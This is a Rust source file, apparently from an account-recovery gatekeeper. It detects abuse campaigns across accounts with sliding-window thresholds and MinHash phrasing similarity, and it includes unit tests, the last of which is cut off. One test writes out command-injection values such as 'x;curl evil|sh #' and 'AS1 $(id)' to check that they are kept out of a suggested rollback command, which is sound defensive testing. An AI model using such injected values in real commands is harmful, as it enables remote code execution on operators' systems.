//! Campaign alerts (issue 20, item 1; ADR 25): abuse repeats (SPEC principle 10), so airlock watches for one indicator
//! showing up across many accounts in a sliding window: one named destination, one destination domain, requests
//! against high-value accounts, near-identical request summaries, one source network, wrong codes. Pure: the
//! indicators of a request, the summary's MinHash signature, the alerts stream's events and their fold, and
//! `reconcile`, which says what the alerts stream should get next for one indicator given every request (a "hit")
//! the projection saw for it. The service appends what `reconcile` says under compare-and-swap on the alerts stream,
//! so several airlock processes raise one alert per indicator and window between them.

use crate::action::RecoveryAction;
use crate::actor::Actor;
use crate::ids::{CommandId, UnixMs};
use crate::limits::{HOUR_MS, MINUTE_MS};
use crate::rejection::Rejection;
use crate::signals::Signals;
use crate::text::UntrustedText;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};

/// What one check watches. Stored in the alerts stream by position (postcard): new checks only at the end.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Check {
    /// One named destination (every spelling of one address is one), across accounts.
    Destination,
    /// One registrable domain of named email addresses, across accounts.
    DestinationDomain,
    /// Requests against high-value accounts, whatever they ask.
    HighValue,
    /// Near-identical request summaries (MinHash over character shingles), across accounts.
    Phrasing,
    /// One source network, across accounts.
    SourceNetwork,
    /// Accounts with a wrong code: a spike of proof failures.
    ProofFailures,
}

impl Check {
    pub const ALL: [Check; 6] = [
        Check::Destination,
        Check::DestinationDomain,
        Check::HighValue,
        Check::Phrasing,
        Check::SourceNetwork,
        Check::ProofFailures,
    ];

    /// The stable name configuration, policies (`context.open_alerts`) and the command line use.
    pub fn name(self) -> &'static str {
        match self {
            Check::Destination => "destination",
            Check::DestinationDomain => "destination_domain",
            Check::HighValue => "high_value",
            Check::Phrasing => "phrasing",
            Check::SourceNetwork => "source_network",
            Check::ProofFailures => "proof_failures",
        }
    }

    pub fn parse(name: &str) -> Option<Check> {
        Check::ALL.into_iter().find(|check| check.name() == name)
    }

    /// What the check means, for people.
    pub fn describe(self) -> &'static str {
        match self {
            Check::Destination => "one new destination named for many accounts",
            Check::DestinationDomain => "new addresses at one domain named for many accounts",
            Check::HighValue => "many requests against high-value accounts",
            Check::Phrasing => "near-identical request summaries across accounts",
            Check::SourceNetwork => "one source network asking for many accounts",
            Check::ProofFailures => "wrong codes on many accounts",
        }
    }
}

impl std::fmt::Display for Check {
    fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        formatter.write_str(self.name())
    }
}

/// When a check trips: `accounts_min` distinct accounts within `window_ms`.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Threshold {
    pub accounts_min: u32,
    pub window_ms: u64,
}

/// The shortest window and the smallest account count a check may be configured with: below them every busy hour
/// would be a campaign.
pub const CAMPAIGN_WINDOW_MS_MIN: u64 = MINUTE_MS;
pub const CAMPAIGN_ACCOUNTS_MIN: u32 = 2;
/// The longest window: the projection keeps the hits of `CAMPAIGN_WINDOW_MS_MAX` and no more.
pub const CAMPAIGN_WINDOW_MS_MAX: u64 = 24 * HOUR_MS;

/// Every check's threshold.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CampaignSettings {
    thresholds: BTreeMap<Check, Threshold>,
}

impl Default for CampaignSettings {
    /// The shipped thresholds (ADR 25): well above what honest traffic of one hour shows for one indicator, and well
    /// below what a campaign needs to pay off.
    fn default() -> Self {
        let hour = |accounts_min| Threshold { accounts_min, window_ms: HOUR_MS };
        CampaignSettings {
            thresholds: BTreeMap::from([
                (Check::Destination, hour(3)),
                (Check::DestinationDomain, hour(20)),
                (Check::HighValue, hour(10)),
                (Check::Phrasing, hour(10)),
                (Check::SourceNetwork, hour(20)),
                (Check::ProofFailures, hour(20)),
            ]),
        }
    }
}

impl CampaignSettings {
    pub fn threshold(&self, check: Check) -> Threshold {
        self.thresholds[&check]
    }

    /// Sets one check's threshold, refusing one outside the bounds.
    pub fn set(&mut self, check: Check, threshold: Threshold) -> Result<(), String> {
        if threshold.accounts_min < CAMPAIGN_ACCOUNTS_MIN {
            return Err(format!("{check}: at least {CAMPAIGN_ACCOUNTS_MIN} accounts"));
        }
        if !(CAMPAIGN_WINDOW_MS_MIN..=CAMPAIGN_WINDOW_MS_MAX).contains(&threshold.window_ms) {
            return Err(format!("{check}: a window from 1 minute to 24 hours"));
        }
        self.thresholds.insert(check, threshold);
        Ok(())
    }
}

/// One indicator of a request: the check, the value it is counted under (normalised as the request ledgers normalise
/// it: every spelling and look-alike of one domain is one), and the value as the request wrote it, for people.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Indicator {
    pub check: Check,
    pub key: String,
    pub shown: String,
}

/// The indicators of a new request, one per check it has a value for (the phrasing check's comes from its summary's
/// signature and the summaries before it).
pub fn request_indicators(action: &RecoveryAction, signals: &Signals, high_value: bool) -> Vec<Indicator> {
    let indicator = |check, key: String, shown: String| Indicator { check, key, shown };
    let mut indicators = Vec::new();
    if let RecoveryAction::AddDestination { kind, address } = action {
        let counted = crate::address::counted_as(*kind, address);
        indicators.push(indicator(Check::Destination, counted, address.trim().to_string()));
        if let (Some(key), Some(shown)) = (
            crate::address::registrable_domain(*kind, address),
            crate::address::registrable_domain_shown(*kind, address),
        ) {
            indicators.push(indicator(Check::DestinationDomain, key, shown));
        }
    }
    if high_value {
        let all = "high-value accounts".to_string();
        indicators.push(indicator(Check::HighValue, all.clone(), all));
    }
    if let Some(network) = signals.source_network.as_deref() {
        indicators.push(indicator(Check::SourceNetwork, network.trim().to_lowercase(), network.trim().to_string()));
    }
    indicators
}

/// The indicator every wrong code counts under.
pub const PROOF_FAILURES_INDICATOR: &str = "wrong codes";

// ---- Near-identical summaries: MinHash (ADR 25) ----

/// Hash functions in a signature. The share of equal positions in two signatures estimates the Jaccard similarity
/// of the two summaries' shingle sets, within about ±0.06 (one standard deviation at 64).
pub const MINHASH_PERMUTATIONS: usize = 64;
/// Locality-sensitive hashing: the signature in `BANDS` bands of `ROWS` rows; two summaries are compared only if
/// one band is equal, which pairs at similarity 0.8 nearly always (99.9%) and at 0.3 rarely (12%).
pub const MINHASH_BANDS: usize = 16;
pub const MINHASH_ROWS: usize = MINHASH_PERMUTATIONS / MINHASH_BANDS;
/// Characters per shingle.
pub const SHINGLE_CHARS: usize = 5;
/// A summary with fewer shingles than this carries too little to tell copies from coincidences ("forgot my
/// password"): it gets no signature and is never part of a phrasing alert.
pub const SHINGLES_MIN: usize = 24;
/// Two summaries are near-identical from this estimated similarity on (ADR 25: copies of one text with a word or two
/// changed, added or dropped score 0.84 to 0.95; of 3,000 generated honest summaries, 1 scored this with another).
pub const PHRASING_SIMILARITY_MIN: f64 = 0.8;

/// A summary's MinHash signature.
pub type Signature = [u32; MINHASH_PERMUTATIONS];

/// The summary as the phrasing check reads it: lower case, every run of anything but letters and digits one space.
fn normalised(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut space = true;
    for character in text.chars().flat_map(char::to_lowercase) {
        if character.is_alphanumeric() {
            out.push(character);
            space = false;
        } else if !space {
            out.push(' ');
            space = true;
        }
    }
    out.trim_end().to_string()
}

/// FNV-1a, 64 bits: a fixed, documented hash, so that a signature means the same in every airlock version.
fn fnv1a(bytes: &[u8]) -> u64 {
    bytes.iter().fold(0xcbf2_9ce4_8422_2325, |hash, byte| (hash ^ u64::from(*byte)).wrapping_mul(0x0100_0000_01b3))
}

/// The `index`-th value of SplitMix64 from a fixed seed: the permutations' coefficients.
fn splitmix(index: u64) -> u64 {
    const SEED: u64 = 0x5eed_a1e7_c0de_0001;
    let mut z = SEED.wrapping_add(index.wrapping_mul(0x9e37_79b9_7f4a_7c15));
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// The summary's signature, or `None` when it is too short to carry one.
pub fn summary_signature(summary: &str) -> Option<Signature> {
    const PRIME: u128 = (1 << 61) - 1;
    let text: Vec<char> = normalised(summary).chars().collect();
    if text.len() < SHINGLE_CHARS {
        return None;
    }
    let shingles: BTreeSet<u64> =
        text.windows(SHINGLE_CHARS).map(|window| fnv1a(window.iter().collect::<String>().as_bytes())).collect();
    if shingles.len() < SHINGLES_MIN {
        return None;
    }
    let mut signature = [u32::MAX; MINHASH_PERMUTATIONS];
    for (index, slot) in signature.iter_mut().enumerate() {
        let a = u128::from(splitmix(2 * index as u64) | 1) % PRIME;
        let b = u128::from(splitmix(2 * index as u64 + 1)) % PRIME;
        for shingle in &shingles {
            let value = ((a * u128::from(*shingle) + b) % PRIME) as u32;
            *slot = (*slot).min(value);
        }
    }
    Some(signature)
}

/// The estimated Jaccard similarity of two summaries: the share of equal positions.
pub fn similarity(a: &Signature, b: &Signature) -> f64 {
    a.iter().zip(b).filter(|(x, y)| x == y).count() as f64 / MINHASH_PERMUTATIONS as f64
}

/// The signature's band keys: two summaries are compared when one of them is equal.
pub fn band_keys(signature: &Signature) -> [u64; MINHASH_BANDS] {
    let mut keys = [0u64; MINHASH_BANDS];
    for (band, key) in keys.iter_mut().enumerate() {
        let rows = &signature[band * MINHASH_ROWS..(band + 1) * MINHASH_ROWS];
        let bytes: Vec<u8> = rows.iter().flat_map(|row| row.to_le_bytes()).collect();
        // The band's number is part of its key: equal rows in different bands are no match.
        *key = fnv1a(&[&[band as u8][..], &bytes].concat()) >> 1;
    }
    keys
}

/// The signature as stored (little-endian rows) and back.
pub fn signature_bytes(signature: &Signature) -> Vec<u8> {
    signature.iter().flat_map(|row| row.to_le_bytes()).collect()
}

pub fn signature_from_bytes(bytes: &[u8]) -> Option<Signature> {
    if bytes.len() != MINHASH_PERMUTATIONS * 4 {
        return None;
    }
    let mut signature = [0u32; MINHASH_PERMUTATIONS];
    for (slot, chunk) in signature.iter_mut().zip(bytes.chunks_exact(4)) {
        *slot = u32::from_le_bytes(chunk.try_into().expect("chunks of four"));
    }
    Some(signature)
}

// ---- The alerts stream ----

/// The version of the alerts stream's events.
pub const ALERT_EVENT_VERSION: u16 = 1;
/// Case ids one alert event carries at most: a campaign of more is recorded over several events.
pub const ALERT_CASES_PER_EVENT_MAX: usize = 100;

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct AlertEvent {
    pub at: UnixMs,
    pub actor: Actor,
    pub command_id: CommandId,
    pub body: AlertEventBody,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub enum AlertEventBody {
    /// A check tripped: `accounts` distinct accounts showed `indicator` within the window, in `cases` (the first
    /// `ALERT_CASES_PER_EVENT_MAX`; `AlertCasesAdded` carries the rest), the first at `first_at`, the last at `last_at`.
    AlertRaised {
        alert_id: String,
        check: Check,
        indicator: String,
        /// The indicator as the campaign's first request wrote it (the key folds look-alike letters).
        shown: String,
        threshold: Threshold,
        accounts: u32,
        cases: Vec<String>,
        first_at: UnixMs,
        last_at: UnixMs,
    },
    /// More requests showed the indicator while the alert was active (within its window of the last one).
    AlertCasesAdded { alert_id: String, accounts: u32, cases: Vec<String>, last_at: UnixMs },
    /// An operator read the alert. `benign`: it is no campaign (a desk's canned wording, a partner's network), so
    /// policies stop seeing it; otherwise matching requests keep going to people while it is active.
    AlertAcknowledged { alert_id: String, reason: UntrustedText, benign: bool },
}

impl AlertEventBody {
    pub fn type_name(&self) -> &'static str {
        match self {
            AlertEventBody::AlertRaised { .. } => "alert_raised",
            AlertEventBody::AlertCasesAdded { .. } => "alert_cases_added",
            AlertEventBody::AlertAcknowledged { .. } => "alert_acknowledged",
        }
    }
}

/// One alert as the stream's events make it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Alert {
    pub alert_id: String,
    pub check: Check,
    pub indicator: String,
    pub shown: String,
    pub threshold: Threshold,
    pub accounts: u32,
    pub cases: Vec<String>,
    pub first_at: UnixMs,
    pub last_at: UnixMs,
    pub raised_at: UnixMs,
    pub acknowledged: Option<Acknowledgement>,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Acknowledgement {
    pub by: Actor,
    pub command_id: CommandId,
    pub at: UnixMs,
    pub reason: UntrustedText,
    pub benign: bool,
}

impl Alert {
    /// Whether the alert still covers `at`: a request within its window of the alert's last one.
    pub fn active_at(&self, at: UnixMs) -> bool {
        at.0 < self.last_at.0.saturating_add(self.threshold.window_ms)
    }

    /// Whether policies see it at `at`: active and not acknowledged as benign.
    pub fn open_at(&self, at: UnixMs) -> bool {
        self.active_at(at) && !self.acknowledged.as_ref().is_some_and(|ack| ack.benign)
    }

    /// The command an operator runs at `now` to undo the changes this campaign got applied, where one indicator
    /// selects them: every change matching it executed since the campaign's first request (whole hours, rounded up).
    /// `None` where only the listed cases can (`airlock rollback CASE` each).
    pub fn rollback_suggestion(&self, now: UnixMs) -> Option<String> {
        let since = format!("{}h", now.0.saturating_sub(self.first_at.0).div_ceil(HOUR_MS).max(1));
        // The domain as written: `--match` folds look-alike letters itself, so it matches every look-alike too. Only
        // a value made of letters, digits and `.-_:/` is put in a command line to copy: anything else (a space, a
        // quote, a `;`, a control character) could make it another command.
        let plain = self.shown.chars().all(|c| c.is_alphanumeric() || ".-_:/".contains(c)) && !self.shown.is_empty();
        let matching = match self.check {
            Check::DestinationDomain if plain => format!("destination-domain={}", self.shown),
            Check::SourceNetwork if plain => format!("source-network={}", self.shown),
            // One address's domain is everyone's who uses that provider: only the listed cases.
            Check::Destination
            | Check::DestinationDomain
            | Check::SourceNetwork
            | Check::HighValue
            | Check::Phrasing
            | Check::ProofFailures => return None,
        };
        Some(format!("airlock rollback --match {matching} --since {since} --dry-run"))
    }
}

/// The alerts stream folded.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct AlertsState {
    pub alerts: BTreeMap<String, Alert>,
    /// The latest alert of each indicator.
    pub latest: BTreeMap<(Check, String), String>,
}

impl AlertsState {
    pub fn evolve(mut self, event: &AlertEvent) -> AlertsState {
        match &event.body {
            AlertEventBody::AlertRaised {
                alert_id,
                check,
                indicator,
                shown,
                threshold,
                accounts,
                cases,
                first_at,
                last_at,
            } => {
                self.latest.insert((*check, indicator.clone()), alert_id.clone());
                self.alerts.insert(
                    alert_id.clone(),
                    Alert {
                        alert_id: alert_id.clone(),
                        check: *check,
                        indicator: indicator.clone(),
                        shown: shown.clone(),
                        threshold: *threshold,
                        accounts: *accounts,
                        cases: cases.clone(),
                        first_at: *first_at,
                        last_at: *last_at,
                        raised_at: event.at,
                        acknowledged: None,
                    },
                );
            }
            AlertEventBody::AlertCasesAdded { alert_id, accounts, cases, last_at } => {
                if let Some(alert) = self.alerts.get_mut(alert_id) {
                    alert.accounts = *accounts;
                    alert.cases.extend(cases.iter().cloned());
                    alert.last_at = alert.last_at.max(*last_at);
                }
            }
            AlertEventBody::AlertAcknowledged { alert_id, reason, benign } => {
                if let Some(alert) = self.alerts.get_mut(alert_id) {
                    alert.acknowledged = Some(Acknowledgement {
                        by: event.actor.clone(),
                        command_id: event.command_id.clone(),
                        at: event.at,
                        reason: reason.clone(),
                        benign: *benign,
                    });
                }
            }
        }
        self
    }

    /// The acknowledgement an operator asks for, or why not. An alert acknowledged once may be acknowledged again to
    /// change what it is (a campaign after all, or benign after all), not to say the same again.
    pub fn acknowledge(
        &self,
        alert_id: &str,
        reason: UntrustedText,
        benign: bool,
    ) -> Result<AlertEventBody, Rejection> {
        let alert = self.alerts.get(alert_id).ok_or(Rejection::NoSuchAlert)?;
        if alert.acknowledged.as_ref().is_some_and(|ack| ack.benign == benign) {
            return Err(Rejection::AlertAlreadyAcknowledged);
        }
        Ok(AlertEventBody::AlertAcknowledged { alert_id: alert_id.to_string(), reason, benign })
    }
}

/// One request (or wrong code) that showed an indicator, as the projection recorded it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hit {
    pub account_id: String,
    pub case_id: String,
    pub at: UnixMs,
    /// The indicator as this request wrote it.
    pub shown: String,
}

/// How far before an alert's first case a request of the same indicator still joins it: two processes' clocks, and
/// the time between a request's decision and its projection in another process.
pub const CLOCK_SKEW_MS_MAX: u64 = 5 * MINUTE_MS;

/// The id of the alert a campaign's first case raises: the same in every process that sees it.
pub fn alert_id(check: Check, indicator: &str, first_case: &str) -> String {
    use sha2::{Digest, Sha256};
    let digest = Sha256::digest(format!("{}\0{indicator}\0{first_case}", check.name()).as_bytes());
    format!("alert-{}", hex::encode(&digest[..10]))
}

fn distinct_accounts<'a>(hits: impl Iterator<Item = &'a Hit>) -> u32 {
    hits.map(|hit| hit.account_id.as_str()).collect::<BTreeSet<_>>().len() as u32
}

/// The next event the alerts stream needs for one indicator, given its `hits` (oldest first, each case once) and
/// the stream so far: more cases for its active alert, or a new alert when the hits after the last one's end trip
/// the threshold; `None` when the stream already says everything. Applied again after each append until `None`.
pub fn reconcile(
    check: Check,
    indicator: &str,
    threshold: Threshold,
    hits: &[Hit],
    state: &AlertsState,
) -> Option<AlertEventBody> {
    // Cases any alert of this indicator holds already: never counted twice, never moved to another alert.
    let mine = |alert: &&Alert| alert.check == check && alert.indicator == indicator;
    let known: BTreeSet<&str> =
        state.alerts.values().filter(mine).flat_map(|alert| alert.cases.iter().map(String::as_str)).collect();
    let mut after = 0;
    if let Some(alert) = state.latest.get(&(check, indicator.to_string())).and_then(|id| state.alerts.get(id)) {
        // The hits the latest alert covers, or could, by its own window (whatever this process is configured with):
        // from a little before its first case (another process's clock may have stamped a request of the campaign
        // earlier, and its projection shown it later), each within the window of the one before; for an alert an
        // operator called benign, none from a window after that on (a later campaign is a new alert).
        let window = alert.threshold.window_ms;
        let start = alert.first_at.0.saturating_sub(window.min(CLOCK_SKEW_MS_MAX));
        let until = match &alert.acknowledged {
            Some(ack) if ack.benign => ack.at.0.saturating_add(window),
            Some(_) | None => u64::MAX,
        };
        let this: BTreeSet<&str> = alert.cases.iter().map(String::as_str).collect();
        let mut last = alert.last_at;
        let mut added = Vec::new();
        let mut accounts: BTreeSet<&str> = BTreeSet::new();
        for (index, hit) in hits.iter().enumerate() {
            if hit.at.0 < start || known.contains(hit.case_id.as_str()) {
                if this.contains(hit.case_id.as_str()) {
                    accounts.insert(&hit.account_id);
                }
                after = index + 1;
                continue;
            }
            if hit.at.0 >= last.0.saturating_add(window) || hit.at.0 >= until {
                break;
            }
            last = last.max(hit.at);
            accounts.insert(&hit.account_id);
            added.push(hit);
            after = index + 1;
        }
        if !added.is_empty() {
            let cases: Vec<String> =
                added.iter().take(ALERT_CASES_PER_EVENT_MAX).map(|hit| hit.case_id.clone()).collect();
            let last_at = added.iter().take(ALERT_CASES_PER_EVENT_MAX).map(|hit| hit.at).max().unwrap_or(last);
            return Some(AlertEventBody::AlertCasesAdded {
                alert_id: alert.alert_id.clone(),
                accounts: alert.accounts.max(accounts.len() as u32),
                cases,
                last_at,
            });
        }
    }
    // A new campaign among the later hits no alert holds: the first moment `accounts_min` accounts fall within one
    // window.
    let rest: Vec<&Hit> = hits[after..].iter().filter(|hit| !known.contains(hit.case_id.as_str())).collect();
    let window = threshold.window_ms;
    let mut start = 0;
    for end in 0..rest.len() {
        while rest[end].at.0.saturating_sub(rest[start].at.0) >= window {
            start += 1;
        }
        if distinct_accounts(rest[start..=end].iter().copied()) >= threshold.accounts_min {
            // The campaign so far: the window that tripped and every later hit chained to it.
            let mut last = rest[end].at;
            let mut covered = end + 1;
            while covered < rest.len() && rest[covered].at.0 < last.0.saturating_add(window) {
                last = rest[covered].at;
                covered += 1;
            }
            let campaign = &rest[start..covered];
            let shown = &campaign[..campaign.len().min(ALERT_CASES_PER_EVENT_MAX)];
            return Some(AlertEventBody::AlertRaised {
                alert_id: alert_id(check, indicator, &campaign[0].case_id),
                check,
                indicator: indicator.to_string(),
                shown: campaign[0].shown.clone(),
                threshold,
                accounts: distinct_accounts(shown.iter().copied()),
                cases: shown.iter().map(|hit| hit.case_id.clone()).collect(),
                first_at: campaign[0].at,
                last_at: shown.last().expect("a campaign has a hit").at,
            });
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::actor::Role;

    fn hit(account: usize, case: usize, at_ms: u64) -> Hit {
        Hit {
            account_id: format!("acct-{account}"),
            case_id: format!("case-{case}"),
            at: UnixMs(at_ms),
            shown: "evil.example".into(),
        }
    }

    fn apply(state: AlertsState, body: AlertEventBody, at: u64) -> AlertsState {
        let actor = Actor::new(Role::System, "campaigns");
        state.evolve(&AlertEvent { at: UnixMs(at), actor, command_id: CommandId::new("c"), body })
    }

    /// Every event `reconcile` asks for, applied, until it asks for none.
    fn settle(check: Check, threshold: Threshold, hits: &[Hit], mut state: AlertsState) -> (AlertsState, usize) {
        let mut events = 0;
        while let Some(body) = reconcile(check, "evil.example", threshold, hits, &state) {
            state = apply(state, body, 0);
            events += 1;
            assert!(events < 100, "reconcile never settles");
        }
        (state, events)
    }

    // Proves one alert per indicator and window: nothing below the threshold; at it, an alert with every case of
    // the window; later hits within the window of the last are added to it, never a second alert; the same account
    // twice counts once; a quiet gap longer than the window ends it, and a later burst raises a new one.
    #[test]
    fn one_alert_per_indicator_and_window() {
        let threshold = Threshold { accounts_min: 3, window_ms: HOUR_MS };
        let check = Check::DestinationDomain;
        let minute = MINUTE_MS;
        let mut hits = vec![hit(1, 1, 0), hit(1, 2, minute), hit(2, 3, 2 * minute)];
        assert_eq!(reconcile(check, "evil.example", threshold, &hits, &AlertsState::default()), None, "two accounts");
        hits.push(hit(3, 4, 3 * minute));
        let (state, events) = settle(check, threshold, &hits, AlertsState::default());
        assert_eq!(events, 1);
        let alert = state.alerts.values().next().unwrap().clone();
        assert_eq!((alert.accounts, alert.cases.len()), (3, 4), "{alert:?}");
        // Another process, with more hits, adds them to the same alert.
        hits.extend([hit(4, 5, 50 * minute), hit(5, 6, 100 * minute)]);
        let (state, events) = settle(check, threshold, &hits, state);
        assert_eq!((events, state.alerts.len()), (1, 1));
        let alert = state.alerts.values().next().unwrap().clone();
        assert_eq!((alert.accounts, alert.cases.len(), alert.last_at), (5, 6, UnixMs(100 * minute)));
        // Quiet for more than the window: a new burst is a new alert.
        let later = 100 * minute + HOUR_MS + minute;
        hits.extend([hit(6, 7, later), hit(7, 8, later + 1), hit(8, 9, later + 2)]);
        let (state, events) = settle(check, threshold, &hits, state);
        assert_eq!((events, state.alerts.len()), (1, 2));
        assert!(!state.alerts.values().any(|alert| alert.cases.len() == 9), "the old alert took the new burst");
        // A request of the campaign stamped before its first case (another process's clock) and projected after the
        // alert was raised still joins it.
        let early = hit(9, 10, later - 5 * minute);
        hits.push(early.clone());
        hits.sort_by_key(|hit| hit.at);
        let (state, events) = settle(check, threshold, &hits, state);
        assert_eq!((events, state.alerts.len()), (1, 2));
        assert!(state.alerts.values().any(|alert| alert.cases.contains(&early.case_id)), "the early case was left out");
        // Spread thin (three accounts, never within one window): no alert.
        let thin = [hit(1, 1, 0), hit(2, 2, HOUR_MS), hit(3, 3, 2 * HOUR_MS)];
        assert_eq!(settle(check, threshold, &thin, AlertsState::default()).1, 0);
    }

    // Proves a campaign larger than one event carries is recorded in full over several events, every case once.
    #[test]
    fn a_large_campaign_is_recorded_in_full() {
        let threshold = Threshold { accounts_min: 20, window_ms: HOUR_MS };
        let hits: Vec<Hit> = (0..250).map(|index| hit(index, index, index as u64 * 1000)).collect();
        let (state, events) = settle(Check::DestinationDomain, threshold, &hits, AlertsState::default());
        assert_eq!(events, 3);
        let alert = state.alerts.values().next().unwrap();
        let cases: BTreeSet<&String> = alert.cases.iter().collect();
        assert_eq!((alert.cases.len(), cases.len(), alert.accounts), (250, 250, 250));
    }

    // Proves an acknowledgement records the operator's word: a campaign's alert stays open to the policy, a benign
    // one leaves it; saying the same again is refused, changing it is recorded; an unknown alert is refused.
    #[test]
    fn an_acknowledged_alert_stays_open_unless_benign() {
        let threshold = Threshold { accounts_min: 2, window_ms: HOUR_MS };
        let hits = [hit(1, 1, 0), hit(2, 2, 1)];
        let (state, _) = settle(Check::Destination, threshold, &hits, AlertsState::default());
        let id = state.alerts.keys().next().unwrap().clone();
        let reason = UntrustedText::new("reason", "looked at it", 100).unwrap();
        let ack = state.acknowledge(&id, reason.clone(), false).unwrap();
        let state = apply(state, ack, 5);
        assert!(state.alerts[&id].open_at(UnixMs(10)));
        assert_eq!(state.acknowledge(&id, reason.clone(), false), Err(Rejection::AlertAlreadyAcknowledged));
        assert_eq!(state.acknowledge("alert-none", reason.clone(), true), Err(Rejection::NoSuchAlert));
        let state = apply(state.clone(), state.acknowledge(&id, reason.clone(), true).unwrap(), 6);
        assert!(!state.alerts[&id].open_at(UnixMs(10)) && state.alerts[&id].active_at(UnixMs(10)));
        assert!(!state.alerts[&id].active_at(UnixMs(1 + HOUR_MS)));
        // Benign after all, then a campaign after all.
        let state = apply(state.clone(), state.acknowledge(&id, reason, false).unwrap(), 7);
        assert!(state.alerts[&id].open_at(UnixMs(10)));
    }

    // Proves a benign acknowledgement covers what came before it and a window after, not for ever: hits that keep
    // the indicator busy past that trip a new alert, which the policy sees.
    #[test]
    fn a_benign_alert_does_not_hide_a_later_campaign() {
        let threshold = Threshold { accounts_min: 3, window_ms: HOUR_MS };
        let step = 20 * MINUTE_MS;
        // Honest traffic at one domain, every 20 minutes, all day: it keeps one chain alive.
        let hits: Vec<Hit> = (0..30).map(|index| hit(index, index, index as u64 * step)).collect();
        let (state, _) = settle(Check::DestinationDomain, threshold, &hits[..5], AlertsState::default());
        let id = state.alerts.keys().next().unwrap().clone();
        let reason = UntrustedText::new("reason", "gmail, every day", 100).unwrap();
        let state = apply(state.clone(), state.acknowledge(&id, reason, true).unwrap(), 5 * step);
        let (state, _) = settle(Check::DestinationDomain, threshold, &hits, state);
        assert_eq!(state.alerts.len(), 2, "a later campaign was folded into the benign alert");
        let later = state.alerts.values().find(|alert| alert.alert_id != id).unwrap();
        assert!(later.first_at.0 >= 5 * step + HOUR_MS && later.open_at(later.last_at));
        let cases: BTreeSet<&String> = state.alerts.values().flat_map(|alert| &alert.cases).collect();
        assert_eq!(cases.len(), 30, "every case in exactly one alert");
    }

    // Proves an alert keeps the window it was raised with: a process configured with a longer one adds no case of an
    // older alert to the latest one, and one configured with a shorter one does not split the campaign.
    #[test]
    fn an_alert_keeps_its_own_window() {
        let hour = Threshold { accounts_min: 3, window_ms: HOUR_MS };
        let day = Threshold { accounts_min: 3, window_ms: 24 * HOUR_MS };
        let minute = Threshold { accounts_min: 3, window_ms: 2 * MINUTE_MS };
        let mut hits: Vec<Hit> = (0..3).map(|index| hit(index, index, index as u64)).collect();
        hits.extend((3..6).map(|index| hit(index, index, 3 * HOUR_MS + index as u64)));
        let (state, _) = settle(Check::DestinationDomain, hour, &hits, AlertsState::default());
        assert_eq!(state.alerts.len(), 2);
        assert_eq!(settle(Check::DestinationDomain, day, &hits, state.clone()).1, 0, "cases moved between alerts");
        hits.push(hit(6, 6, 3 * HOUR_MS + 30 * MINUTE_MS));
        let (state, events) = settle(Check::DestinationDomain, minute, &hits, state);
        assert_eq!((events, state.alerts.len()), (1, 2), "a shorter window split the campaign");
    }

    // Proves the rollback an alert suggests is one an operator can paste safely: only for a domain or a network, only
    // when its value is plain (no space, quote, `;` or control character), reaching back to the first case.
    #[test]
    fn a_suggested_rollback_is_safe_to_paste() {
        let threshold = Threshold { accounts_min: 2, window_ms: HOUR_MS };
        let alert = |check, shown: &str| Alert {
            alert_id: "alert-1".into(),
            check,
            indicator: shown.to_lowercase(),
            shown: shown.into(),
            threshold,
            accounts: 2,
            cases: Vec::new(),
            first_at: UnixMs(0),
            last_at: UnixMs(HOUR_MS),
            raised_at: UnixMs(0),
            acknowledged: None,
        };
        let now = UnixMs(5 * HOUR_MS + 1);
        assert_eq!(
            alert(Check::DestinationDomain, "attacker.example").rollback_suggestion(now).as_deref(),
            Some("airlock rollback --match destination-domain=attacker.example --since 6h --dry-run")
        );
        assert_eq!(
            alert(Check::SourceNetwork, "AS64500").rollback_suggestion(now).as_deref(),
            Some("airlock rollback --match source-network=AS64500 --since 6h --dry-run")
        );
        for (check, shown) in [
            (Check::SourceNetwork, "x;curl evil|sh #"),
            (Check::SourceNetwork, "AS1 $(id)"),
            (Check::SourceNetwork, "AS1\u{1b}[2J"),
            (Check::Destination, "drop@gmail.com"),
            (Check::Phrasing, "case-1"),
        ] {
            assert_eq!(alert(check, shown).rollback_suggestion(now), None, "{shown:?}");
        }
    }

    /// A tiny deterministic generator, so the measurement below is the same on every run.
    struct Lcg(u64);
    impl Lcg {
        fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
            self.0 = self.0.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            items[(self.0 >> 33) as usize % items.len()]
        }
        fn number(&mut self, below: u64) -> u64 {
            self.0 = self.0.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            (self.0 >> 33) % below
        }
    }

    /// A summary a desk or an assistant might write for an honest owner: a situation, what was said and done, and
    /// the owner's particulars, each drawn from lists, in varying order and length.
    fn benign(random: &mut Lcg) -> String {
        let who = [
            "Customer",
            "Caller",
            "The owner",
            "Member",
            "User",
            "Client",
            "Account holder",
            "She",
            "He",
            "They",
            "The person on the line",
            "Our customer",
            "The subscriber",
            "The visitor at the branch",
        ];
        let what = [
            "lost their phone on a trip to the coast",
            "got a new phone and the authenticator app did not move over",
            "forgot the password after a long holiday",
            "is locked out after too many attempts this morning",
            "changed jobs and no longer has the work email on the account",
            "says the old email provider closed the mailbox last year",
            "cannot receive text messages while abroad",
            "had the phone stolen at the train station on Friday",
            "reset the phone to factory settings by mistake",
            "moved house and switched mobile carrier last month",
            "wants to replace an email address they no longer read",
            "dropped the phone in the sea and bought another one",
            "shares a laptop with family and the saved password was removed",
